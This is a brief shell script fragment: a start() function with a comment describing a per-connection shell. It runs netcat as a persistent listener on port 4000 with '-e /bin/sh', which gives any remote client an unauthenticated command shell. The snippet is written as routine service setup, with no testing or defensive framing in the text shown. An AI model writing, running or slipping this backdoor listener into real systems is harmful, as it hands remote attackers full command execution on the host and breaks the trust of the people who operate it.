# A shell for each connection, which ends when its input does; no settings.
start() {
    nc -ll -p 4000 -e /bin/sh &
}
